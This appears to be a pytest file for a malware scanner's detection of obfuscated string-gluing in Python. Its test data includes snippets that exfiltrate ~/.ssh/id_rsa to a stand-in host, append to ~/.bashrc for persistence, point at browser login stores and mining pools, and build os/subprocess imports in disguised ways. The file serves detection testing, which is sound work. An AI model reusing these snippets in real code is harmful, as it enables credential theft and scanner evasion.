"""Literals glued in spellings the glue pass does not read (caplet._scan._glued_forms).

Each attack below spelled an indicator or a hidden name by a glue the AST pass evaluates
and the prefilter's glue pass did not read (``'%s%s' % (...)``, ``''.join (``, ...): clean
in package mode, DANGER with the whole file visited (or, for ``__add__`` and a credential
path glued from pieces, clean both ways: the rules themselves did not read the glue).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._glued_forms import MAX_FORMS, form_values, with_glued_forms
from caplet._scan._model import ScanMode
from caplet._scan._prefilter import Need, prefilter
from caplet._scan._scanner import scan_tree
from tests._scan.prefilterkit import found_in_a_package, tree_both_ways

#: A path written to (what makes a shell's startup file a persistence).
_WRITE = "open(os.path.expanduser(p), 'a').write('x')\n"

#: Glue spellings of an indicator or a hidden name, each beside what makes it a threat.
_ATTACKS = {
    # an indicator (a persistence file, a browser store, a miner pool) glued
    "join-blank-paren": (
        "import os\nc = ''.join (['cront', 'ab -l'])\nos.system(c)\n",
        "CPL-THR-009",
    ),
    "join-blank-dot": ("u = '' .join(['stratum+t', 'cp://pool.example:3333'])\n", "CPL-THR-010"),
    "str-join": ("x = str.join('', ['Lo', 'gin Data'])\n", "CPL-THR-005"),
    "percent": ("import os\nos.system('echo x >> %s%s' % ('~/.ba', 'shrc'))\n", "CPL-THR-009"),
    "format": ("x = '{}{}'.format('Lo', 'gin Data')\n", "CPL-THR-005"),
    "paren-plus": ("import os\nos.system('echo x >> ' + ('~/.ba') + 'shrc')\n", "CPL-THR-009"),
    "reversed": ("x = ''.join(reversed(['gin Data', 'Lo']))\n", "CPL-THR-005"),
    "dunder-add": ("u = 'stratum+t'.__add__('cp://pool.example:3333')\n", "CPL-THR-010"),
    "f-string-field": ("import os\nos.system(f'{\"cront\"}ab -l')\n", "CPL-THR-009"),
    # a module name glued on one line and imported by name on another
    "import-plus": ("n = 'o' + 's'\nm = __import__(n)\nm.system('id')\n", "CPL-THR-003"),
    "import-f-string": ("m = __import__('o' + f's')\nm.system('id')\n", "CPL-THR-003"),
    "import-percent": (
        "import importlib\nn = '%s%s' % ('sub', 'process')\nimportlib.import_module(n).run('id')\n",
        "CPL-THR-003",
    ),
    "import-reversed": (
        "import importlib\nn = ''.join(reversed(['ssecorp', 'bus'][::-1]))\n"
        "m = importlib.import_module(n[::-1])\nm.run('id')\n",
        "CPL-THR-003",
    ),
    # a credential path glued from pieces, sent
    "credential-plus": (
        "import os, requests\np = os.path.expanduser('~/.ss' + 'h/id_rsa')\n"
        "requests.post('http://x.example/', data=open(p).read())\n",
        "CPL-THR-007",
    ),
    "credential-percent": (
        "import os, requests\np = os.path.expanduser('%s%s' % ('~/.ss', 'h/id_rsa'))\n"
        "requests.post('http://x.example/', data=open(p).read())\n",
        "CPL-THR-007",
    ),
    "credential-join-blank": (
        "import os, requests\np = os.path.expanduser(''.join (['~/.ss', 'h/id_rsa']))\n"
        "requests.post('http://x.example/', data=open(p).read())\n",
        "CPL-THR-007",
    ),
    "browser-store-add": ("x = 'Lo'.__add__('gin Data')\n", "CPL-THR-005"),
    # attack11: near spellings of the same glue
    "percent-mapping": (
        "import os\np = '%(a)s%(b)s' % {'a': '~/.ba', 'b': 'shrc'}\n"
        "open(os.path.expanduser(p), 'a').write('x')\n",
        "CPL-THR-009",
    ),
    "format-keywords": (
        "import os\np = '{a}{b}'.format(a='~/.ba', b='shrc')\n"
        "open(os.path.expanduser(p), 'a').write('x')\n",
        "CPL-THR-009",
    ),
    "format-map": (
        "import os\np = '{a}{b}'.format_map({'a': '~/.ba', 'b': 'shrc'})\n"
        "open(os.path.expanduser(p), 'a').write('x')\n",
        "CPL-THR-009",
    ),
    "str-dunder-add": (
        "import os\np = str.__add__('~/.ba', 'shrc')\n"
        "open(os.path.expanduser(p), 'a').write('x')\n",
        "CPL-THR-009",
    ),
    "operator-add": (
        "import os, operator\np = operator.add('~/.ba', 'shrc')\n"
        "open(os.path.expanduser(p), 'a').write('x')\n",
        "CPL-THR-009",
    ),
    # recall12: attack11's open rows. A template itself computed, then formatted
    "percent-template-repeated": (
        "import os\np = ('%s' * 2) % ('~/.ba', 'shrc')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "percent-template-repeated-left": (
        "import os\np = (2 * '%s') % ('~/.ba', 'shrc')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "percent-template-added": (
        "import os\np = ('%' + 's%s') % ('~/.ba', 'shrc')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "import-percent-template": (
        "n = ('%s' * 2) % ('o', 's')\nm = __import__(n)\nm.system('id')\n",
        "CPL-THR-003",
    ),
    # operator's additions imported bare (or under another name, or the module so)
    "bare-add": (
        "import os\nfrom operator import add\np = add('~/.ba', 'shrc')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "bare-add-renamed": (
        "import os\nfrom operator import add as glue\np = glue('~/.ba', 'shrc')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "bare-add-renamed-outside-ascii": (
        "import os\nfrom operator import (\n    concat as 連結,\n)\np = 連結('~/.ba', 'shrc')\n"
        + _WRITE,
        "CPL-THR-009",
    ),
    "bound-to-a-name": (
        "import os, operator\nglue = operator.iadd\np = glue('~/.ba', 'shrc')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "operator-renamed": (
        "import os\nimport operator as op\np = op.concat('~/.ba', 'shrc')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "import-bare-concat": (
        "from operator import concat\nn = concat('o', 's')\nm = __import__(n)\nm.system('id')\n",
        "CPL-THR-003",
    ),
    "import-bare-iadd": (
        "from operator import iadd\nn = iadd('o', 's')\nm = __import__(n)\nm.system('id')\n",
        "CPL-THR-003",
    ),
    # literals folded by functools.reduce
    "reduce-operator-add": (
        "import os, functools, operator\n"
        "p = functools.reduce(operator.add, ['~/.ba', 'shrc'])\n" + _WRITE,
        "CPL-THR-009",
    ),
    "reduce-bare-add": (
        "import os\nfrom functools import reduce\nfrom operator import add\n"
        "p = reduce(add, ['~/.ba', 'shrc'], '')\n" + _WRITE,
        "CPL-THR-009",
    ),
    "reduce-lambda": (
        "import os\nfrom functools import reduce\n"
        "p = reduce(lambda a, b: a + b, ('~/.ba', 'shrc'))\n" + _WRITE,
        "CPL-THR-009",
    ),
    "reduce-lambda-backward": (
        "import os\nfrom functools import reduce\n"
        "p = reduce(lambda a, b: b + a, ['shrc', '~/.ba'])\n" + _WRITE,
        "CPL-THR-009",
    ),
    "import-reduce-concat": (
        "from functools import reduce\nfrom operator import concat\n"
        "n = reduce(concat, ['o', 's'])\nm = __import__(n)\nm.system('id')\n",
        "CPL-THR-003",
    ),
}


def _plugin_rules(root: Path) -> set[str]:
    report = scan_tree(root, mode=ScanMode.PLUGIN)
    return {f.rule_id for f in report.findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize("shape", sorted(_ATTACKS))
def test_a_glue_in_another_spelling_is_found_in_a_package_and_a_plugin(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, rule = _ATTACKS[shape]
    found_in_a_package(tmp_path, monkeypatch, text, rule)
    assert rule in _plugin_rules(tmp_path)


#: recall12's shapes, each also checked in a file past the large-file bound.
_RECALL12 = [
    shape
    for shape in _ATTACKS
    if shape.startswith(("percent-template", "import-percent-template", "bare-add", "reduce-"))
    or shape in {"bound-to-a-name", "operator-renamed", "import-bare-concat", "import-bare-iadd"}
    or shape == "import-reduce-concat"
]


@pytest.mark.parametrize("shape", _RECALL12)
def test_a_recall12_glue_is_found_in_a_large_file(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a large file is visited around its hits only: the glue far from any of them
    text, rule = _ATTACKS[shape]
    padding = "".join(f"def helper_{i}(value):\n    return value + {i}\n\n" for i in range(900))
    head, _, rest = text.partition("\n")
    found_in_a_package(tmp_path, monkeypatch, head + "\n" + padding + rest, rule)


@pytest.mark.parametrize(
    "text",
    [
        # formatting, joins and additions of literals that spell nothing worth a finding
        "x = '{}: {}'.format('a', 'b')\nprint('%s-%s' % ('x', 'y'))\n",
        "sep = ''.join (['a', 'b'])\nname = str.join('', ['re', 'port'])\n",
        "label = ('Hello') + ' world'\nlabel2 = 'a'.__add__('b')\nf'{\"x\"}y'\n",
        # a module imported by a name a plugin loader builds from literals
        "import importlib\nn = '%s.%s' % ('pkg', 'plugins')\nm = importlib.import_module(n)\n",
        # a path glued from pieces that names no credential, sent
        "import os, requests\np = os.path.expanduser('~/.con' + 'fig/app.toml')\n"
        "requests.post('http://x.example/', data=open(p).read())\n",
        # recall12: the same new spellings gluing what no rule watches
        "row = ('%s' * 3) % ('a', 'b', 'c')\nline = (2 * '%s') % ('x', 'y')\n",
        "from operator import add, concat\nlabel = add('Hello', ' world')\n"
        "path = concat('~/.con', 'fig/app.toml')\nprint(label, path)\n",
        "import functools, operator\nfrom functools import reduce\n"
        "a = functools.reduce(operator.add, ['x', 'y'])\nb = reduce(lambda s, t: s + t, [1, 2])\n",
        "import importlib, operator\nfrom functools import reduce\n"
        "n = reduce(operator.add, ['pkg.', 'plugins'])\nm = importlib.import_module(n)\n",
    ],
    ids=[
        "format",
        "join",
        "add",
        "plugin-loader",
        "config-path",
        "computed-template",
        "bare-add",
        "reduce",
        "reduce-loader",
    ],
)
def test_benign_glues_stay_clean(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert filtered == whole == []


def test_only_a_name_glued_beside_a_lookup_by_a_name_sends_the_file() -> None:
    check = prefilter().check
    # the same glue, no lookup by a name not written out: the answer stays nothing
    text = "n = '%s%s' % ('o', 's')\nprint(n)\n"
    assert with_glued_forms(text, check(text), check) is Need.NOTHING
    text = "n = '%s%s' % ('o', 's')\nm = __import__(n)\n"
    assert with_glued_forms(text, check(text), check) is Need.FULL


def test_each_form_is_read_as_its_value() -> None:
    text = (
        "a = '%s%s' % ('ev', 'al')\n"
        "b = '{}{}'.format('ex', 'ec')\n"
        "c = str.join('', ['sy', 'stem'])\n"
        "d = ''.join(reversed(['al', 'ev']))\n"
        "e = 'c'.__add__('md')\n"
        "f = ('Lo') + 'gin'\n"
        "g = f'{\"Lo\"}gin'\n"
    )
    prefilter().check(text)
    found = form_values(text)
    assert found is not None
    lines, _, firsts, values = found
    assert values == ["eval", "exec", "system", "eval", "cmd", "Login", "Login"]
    assert firsts == [1, 2, 3, 4, 5, 6, 7]
    assert lines.splitlines()[0] == "a = 'eval'"


def test_the_recall12_forms_are_read_as_their_values() -> None:
    text = (
        "from operator import add as o, concat\nfrom functools import reduce\n"
        "a = ('%s' * 2) % ('ev', 'al')\n"
        "b = (2 * '%s') % ('ex', 'ec')\n"
        "c = concat('sy', 'stem')\n"
        "d = o('o', 's')\n"  # a literal spelling the new name stays that literal
        "e = reduce(o, ['o', 's'], '')\n"
        "f = reduce(lambda x, y: x + y, ('Lo', 'gin'))\n"
        "g = reduce(lambda x, y: y + x, ('gin', 'Lo'))\n"  # each item before the total
        "h = op.__iadd__(b'ev', b'al')\n"
    )
    prefilter().check(text)
    found = form_values(text)
    assert found is not None
    _, _, firsts, values = found
    assert values == ["eval", "exec", "system", "os", "os", "Login", "Login", "eval"]
    assert firsts == [3, 4, 5, 6, 7, 8, 9, 10]


@pytest.mark.parametrize(
    "text",
    [
        # a template repeated past the bound, a fold past it: refused before built
        "x = ('%s' * 999999999) % ('a',)\n",
        "x = (999999999 * 'a') % ()\n",
        "import functools, operator\n"
        "x = functools.reduce(operator.add, ['" + "a" * 3000 + "', '" + "b" * 3000 + "'])\n",
        # reduce of nothing raises; of something else than an addition is not read
        "import functools, operator\nx = functools.reduce(operator.add, [])\n",
        "import functools, operator\nx = functools.reduce(operator.mul, ['a', 'b'])\n",
    ],
)
def test_a_recall12_form_that_cannot_be_read_safely_is_not_built(text: str) -> None:
    prefilter().check(text)
    assert form_values(text) is None


@pytest.mark.parametrize(
    "text",
    [
        # a width, a conversion or an attribute builds what no literal holds: refused
        "x = '%999999999s' % ('a',)\n",
        "x = '{:>999999999}'.format('a')\n",
        "x = '{0.__class__}'.format('a')\n",
        "x = '{!r}'.format('a')\n",
        # not literals only
        "x = '%s%s' % ('a', b)\n",
        # a value past the bound
        "x = '%s%s' % ('" + "a" * 3000 + "', '" + "b" * 3000 + "')\n",
    ],
)
def test_what_cannot_be_read_safely_is_not_built(text: str) -> None:
    prefilter().check(text)
    assert form_values(text) is None


def test_a_file_past_the_bound_of_forms_is_visited_whole() -> None:
    text = "x = '%s' % ('a',)\n" * (MAX_FORMS + 1)
    check = prefilter().check
    assert with_glued_forms(text, check(text), check) is Need.FULL


def test_a_file_without_a_mark_is_not_searched() -> None:
    text = "x = 1\n"
    prefilter().check(text)
    assert form_values(text) is None


@pytest.mark.parametrize(
    "text",
    [
        # attack11: a long separator between many blanks, a field naming a long argument
        # many times: the value is the product of two lengths of a 30 kB line (64 MB)
        "x = '" + "x" * 16000 + "'.join([" + ",".join(["''"] * 4000) + "])\n",
        "x = str.join('" + "x" * 16000 + "', [" + ",".join(["''"] * 4000) + "])\n",
        "x = '" + "{0}" * 4000 + "'.format('" + "x" * 16000 + "')\n",
        "x = '" + "{}" * 4000 + "'.format(" + ",".join(["'" + "x" * 3 + "'"] * 4000) + ")\n",
        # a field numbered past any argument list
        "x = '{" + "9" * 5000 + "}'.format('a')\n",
    ],
)
def test_a_value_longer_than_the_bound_is_refused_before_it_is_built(text: str) -> None:
    import tracemalloc

    prefilter().check(text)
    tracemalloc.start()
    try:
        found = form_values(text)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert found is None
    assert peak < 8 * 1024 * 1024  # the line's own copies, not the 64 MB product


def test_a_mapping_without_the_key_a_field_names_is_refused() -> None:
    # attack11: KeyError raised out of the scan
    text = "x = '%(a)s' % {'b': 'x'}\n"
    prefilter().check(text)
    assert form_values(text) is None
